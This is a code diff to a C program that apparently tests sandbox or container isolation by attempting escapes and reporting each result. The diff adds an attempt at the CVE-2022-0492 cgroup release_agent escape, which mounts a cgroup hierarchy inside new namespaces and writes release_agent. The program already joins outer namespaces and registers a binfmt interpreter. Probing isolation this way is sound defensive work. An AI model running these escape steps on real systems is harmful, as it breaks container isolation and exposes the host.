@@ -19,6 +19,7 @@
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
 #include <sys/time.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 #include <linux/bpf.h>
@@ -29,6 +30,7 @@
 /* What escapes.c has made ready: without it there would be nothing to take. */
 #define OUTSIDE		"/outside"
 #define INTERPRETER	"dre-host"
+#define HIERARCHY	"dre-host"
 
 static void report(const char *what, long ret)
 {
@@ -181,6 +183,25 @@ static void register_interpreter(void)
 	umount("/tmp/mount");
 }
 
+/* CVE-2022-0492: in namespaces of one's own a hierarchy of the first kind can be mounted, which all have in common. */
+static void set_release_agent(void)
+{
+	pid_t pid = fork();
+	int fd;
+
+	if (pid) {
+		waitpid(pid, NULL, 0);
+		return;
+	}
+	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP))
+		report("no namespaces", 0);
+	if (mount("none", "/tmp/mount", "cgroup", 0, "none,name=" HIERARCHY))
+		report("no hierarchy", 0);
+	fd = open("/tmp/mount/release_agent", O_WRONLY | O_CLOEXEC);
+	report("release_agent", fd < 0 ? fd : write(fd, "/x", 2));
+	_exit(0);
+}
+
 static void write_files(void)
 {
 	static const char *const files[] = {
@@ -241,6 +262,7 @@ int main(void)
 	join_parent("setns to the user namespace outside", "/proc/self/ns/user");
 	join_parent("setns to the pid namespace outside", "/proc/self/ns/pid");
 	register_interpreter();
+	set_release_agent();
 	nest_groups();
 	puts("all tried");
 	return 0;
